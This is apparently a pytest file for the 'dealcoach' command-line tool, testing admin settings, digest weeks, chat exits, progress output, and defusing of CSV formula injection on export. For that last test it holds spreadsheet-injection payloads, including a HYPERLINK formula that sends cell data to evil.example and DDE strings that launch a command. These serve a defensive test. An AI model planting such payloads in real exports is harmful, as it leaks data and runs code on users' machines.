"""Ops items of issue #11 and #18 through the real `dealcoach` command (subprocesses with
the environment an operator would set): DEALCOACH_ADMINS forms, CSV export cells, digest
week words, `chat` at end of input, progress/summary lines on stderr."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

CLI = [sys.executable, "-c", "from dealcoach.cli import main; main()"]


def _env(tmp_path: Path, url: str | None = None, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("DEALCOACH_", "SLACK_"))}
    env["DATABASE_URL"] = url or f"sqlite:///{tmp_path / 'dealcoach.db'}"
    env["HOME"] = str(tmp_path)
    env.update(extra)
    return env


def run_cli(
    args: list[str], tmp_path: Path, *, url: str | None = None, stdin: str = "", **extra: str
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        CLI + args,
        input=stdin,
        capture_output=True,
        text=True,
        env=_env(tmp_path, url, **extra),
        cwd=tmp_path,
        timeout=120,
    )


# --- #11 item 6: DEALCOACH_ADMINS --------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("U1,U2", ["U1", "U2"]),
        ("U1", ["U1"]),
        ("", []),
        (" U1 , ,U2 ", ["U1", "U2"]),
        ('["U1", "U2"]', ["U1", "U2"]),
    ],
)
def test_dealcoach_admins_from_the_environment(
    tmp_path: Path, value: str, expected: list[str]
) -> None:
    # Every command reads the settings: `db current` must run, not crash with a traceback.
    done = run_cli(["db", "current"], tmp_path, DEALCOACH_ADMINS=value)
    assert "Traceback" not in done.stderr, done.stderr[-2000:]
    assert done.returncode == 0, done.stderr
    # …and the value is what the docs promise.
    probe = subprocess.run(
        [
            sys.executable,
            "-c",
            "from dealcoach.config import Settings; print(Settings().dealcoach_admins)",
        ],
        capture_output=True,
        text=True,
        env=_env(tmp_path, DEALCOACH_ADMINS=value),
        cwd=tmp_path,
        timeout=60,
    )
    assert probe.returncode == 0, probe.stderr[-2000:]
    assert probe.stdout.strip() == repr(expected)


def test_a_broken_json_admins_list_is_one_line(tmp_path: Path) -> None:
    done = run_cli(["db", "current"], tmp_path, DEALCOACH_ADMINS='["U1",')
    assert "Traceback" not in done.stderr
    assert done.returncode == 2
    assert len(done.stderr.strip().splitlines()) == 1
    assert "DEALCOACH_ADMINS" in done.stderr


# --- #11 item 5: CSV formula injection ----------------------------------------------------------

HOSTILE_ANSWERS = {
    "deal.name": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "deal.account": "\t=cmd|' /C calc'!A0",
    "deal.value": "12.5k",
    "deal.stage": "proposal",
    "fit.need": "@SUM(1+1)*cmd|' /C calc'!A0",
    "fit.requirements_met": "yes",
    "fit.price_market_conform": "yes",
    "agenda.1.who": "\r=1+1",
    "agenda.1.role": "economic_buyer",
    "agenda.1.certainty": "confirmed",
    "benefit.customer_ready": "yes",
    "benefit.customer_wins": "-2+3+cmd|' /C calc'!A0",
    "benefit.we_win": "+1+cmd",
    "benefit.margin": "healthy",
}


def _formula_like(cell: str) -> bool:
    return cell.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r")


def test_csv_export_neutralises_formula_cells_and_jsonl_stays_exact(
    tmp_path: Path, database_url: str
) -> None:
    import csv
    import io
    import json

    assert run_cli(["db", "upgrade"], tmp_path, url=database_url).returncode == 0
    answers = tmp_path / "answers.json"
    answers.write_text(json.dumps(HOSTILE_ANSWERS), encoding="utf-8")
    done = run_cli(
        ["chat", "--answers", str(answers), "--json", "--user=@evil"], tmp_path, url=database_url
    )
    assert done.returncode == 0, done.stderr

    exported = run_cli(["export", "--format", "csv"], tmp_path, url=database_url)
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert len(rows) == 1
    row = rows[0]
    offending = {k: v for k, v in row.items() if _formula_like(v)}
    assert offending == {}, offending
    assert row["deal_name"] == "'" + HOSTILE_ANSWERS["deal.name"]
    assert row["answer:fit.need"] == "'" + HOSTILE_ANSWERS["fit.need"]
    assert row["answer:benefit.we_win"] == "'+1+cmd"
    assert row["user_id"] == "'@evil"
    # numbers stay numbers
    assert row["deal_value"] == "12500"
    assert row["answer:deal.value"] == "12500"

    jsonl = run_cli(["export", "--format", "jsonl"], tmp_path, url=database_url)
    assert jsonl.returncode == 0, jsonl.stderr
    record = json.loads(jsonl.stdout.splitlines()[0])
    assert record["deal"]["name"] == HOSTILE_ANSWERS["deal.name"]
    assert record["answers"]["fit.need"] == HOSTILE_ANSWERS["fit.need"]
    assert record["user"]["id"] == "@evil"


def test_csv_cells_numbers_stay_numbers_text_is_neutralised() -> None:
    from dealcoach.services.export import _cell

    assert _cell(-5000.0) == -5000  # a negative deal value is a number, not text
    assert _cell(-12.5) == -12.5
    assert _cell(7) == 7
    assert _cell("-5") == "-5"  # a plain number typed as text is no formula
    assert _cell("-5+A1") == "'-5+A1"
    assert _cell(" =1+1") == "' =1+1"
    assert _cell("\n@x") == "'\n@x"
    assert _cell(["=a", "b"]) == "'=a;b"
    assert _cell("Acme - rollout") == "Acme - rollout"


# --- #18.2: the same week words as Slack and Teams ------------------------------------------------

GOOD_ANSWERS = {
    "deal.name": "Acme",
    "deal.stage": "proposal",
    "fit.requirements_met": "yes",
    "fit.price_market_conform": "yes",
    "agenda.1.who": "Anna",
    "agenda.1.role": "economic_buyer",
    "agenda.1.certainty": "confirmed",
    "benefit.customer_ready": "yes",
    "benefit.margin": "healthy",
}


@pytest.fixture
def team_db(tmp_path: Path) -> Path:
    """A completed review by U1 (this week), who reports to UM."""
    import json

    answers = tmp_path / "good.json"
    answers.write_text(json.dumps(GOOD_ANSWERS), encoding="utf-8")
    done = run_cli(["chat", "--answers", str(answers), "--json", "--user", "U1"], tmp_path)
    assert done.returncode == 0, done.stderr
    added = run_cli(["team", "add", "--manager", "UM", "--member", "U1"], tmp_path)
    assert added.returncode == 0, added.stderr
    return tmp_path


def test_digest_preview_accepts_the_week_words_of_slack_and_teams(team_db: Path) -> None:
    from datetime import UTC, datetime

    from dealcoach.digest.weeks import IsoWeek, zone

    now = datetime.now(UTC)
    this = IsoWeek.containing(now, zone("UTC"))
    for word, week in [
        ("this", this),
        ("deze", this),
        ("last", this.previous()),
        ("vorige", this.previous()),
        (str(this), this),
    ]:
        done = run_cli(["digest", "preview", "--manager", "UM", "--week", word], team_db)
        assert done.returncode == 0, (word, done.stderr)
        assert f"week {week.week} " in done.stdout, (word, done.stdout[:200])
    assert (
        "1 review completed"
        in run_cli(["digest", "preview", "--manager", "UM", "--week", "this"], team_db).stdout
    )


def test_a_bad_week_names_every_accepted_form_in_one_line(team_db: Path) -> None:
    for command in (["digest", "preview", "--manager", "UM"], ["digest", "send"]):
        done = run_cli([*command, "--week", "yesterday"], team_db)
        assert done.returncode == 2
        lines = done.stderr.strip().splitlines()
        assert len(lines) == 1 and "last, this or YYYY-Www" in lines[0], lines


def test_digest_send_this_week_sends_the_current_week(team_db: Path) -> None:
    from datetime import UTC, datetime

    from dealcoach.digest.weeks import IsoWeek, zone

    this = IsoWeek.containing(datetime.now(UTC), zone("UTC"))
    done = run_cli(["digest", "send", "--week", "this"], team_db)
    assert done.returncode == 0, done.stderr
    assert f"--- digest for UM ({this}) ---" in done.stdout
    assert "sent 1 digest, 0 failed in " in done.stderr
    again = run_cli(["digest", "send", "--week", "this"], team_db)
    assert "sent 0 digests, 0 failed, 1 already sent in " in again.stderr


# --- #18.3: `chat` at end of input before any answer ----------------------------------------------


def test_chat_with_no_input_says_no_review_started_and_exits_0(tmp_path: Path) -> None:
    done = run_cli(["chat"], tmp_path, stdin="")
    assert done.returncode == 0, done.stderr
    assert "no review started" in done.stderr and "nothing saved" in done.stderr
    assert "paused" not in done.stderr


def test_chat_ended_after_an_answer_still_pauses_with_130(tmp_path: Path) -> None:
    done = run_cli(["chat"], tmp_path, stdin="Acme rollout\n")
    assert done.returncode == 130
    assert "review paused; your answers are saved" in done.stderr
    resumed = run_cli(["chat", "--resume"], tmp_path, stdin="")
    assert resumed.returncode == 130  # the resumed draft holds answers: paused again
    assert "review paused" in resumed.stderr


# --- #18.4: progress on a terminal only, a summary line always ------------------------------------


def run_with_terminal_stderr(
    args: list[str], tmp_path: Path, url: str | None = None
) -> tuple[int, str, str]:
    """Run the command with stderr on a pseudo-terminal (as a person at a terminal sees it)."""
    import pty

    master, slave = pty.openpty()
    proc = subprocess.Popen(
        CLI + args,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=slave,
        env={**_env(tmp_path, url), "COLUMNS": "100"},
        cwd=tmp_path,
    )
    os.close(slave)
    chunks: list[bytes] = []
    while True:
        try:
            data = os.read(master, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    out = proc.stdout.read().decode() if proc.stdout else ""
    proc.wait(timeout=120)
    return proc.returncode, out, b"".join(chunks).decode(errors="replace")


def test_export_shows_a_bar_on_a_terminal_and_a_summary_line(team_db: Path) -> None:
    code, out, err = run_with_terminal_stderr(["export"], team_db)
    assert code == 0, err
    assert len(out.splitlines()) == 1  # stdout holds only the export
    assert "exporting" in err and "100%" in err
    assert "exported 1 review in " in err


def test_export_piped_has_no_bar_only_the_summary(team_db: Path) -> None:
    done = run_cli(["export", "--format", "csv"], team_db)
    assert done.returncode == 0
    assert done.stderr.strip().splitlines() == [done.stderr.strip()]
    assert done.stderr.startswith("exported 1 review in ") and done.stderr.endswith(" s\n")
    assert "%" not in done.stderr and "exporting" not in done.stderr


def test_db_upgrade_bar_on_a_terminal_summary_always(tmp_path: Path) -> None:
    code, out, err = run_with_terminal_stderr(["db", "upgrade"], tmp_path)
    assert code == 0, err
    assert "migrating" in err and "100%" in err
    assert "is at revision" in out
    assert "applied " in err and " migrations in " in err
    again = run_cli(["db", "upgrade"], tmp_path)
    assert again.returncode == 0
    assert again.stderr.strip().splitlines() == [again.stderr.strip()]
    assert again.stderr.startswith("applied 0 migrations in ")


def test_digest_send_bar_on_a_terminal(team_db: Path) -> None:
    code, _out, err = run_with_terminal_stderr(["digest", "send", "--week", "this"], team_db)
    assert code == 0, err
    assert "sending digests" in err and "100%" in err
    assert "sent 1 digest, 0 failed in " in err
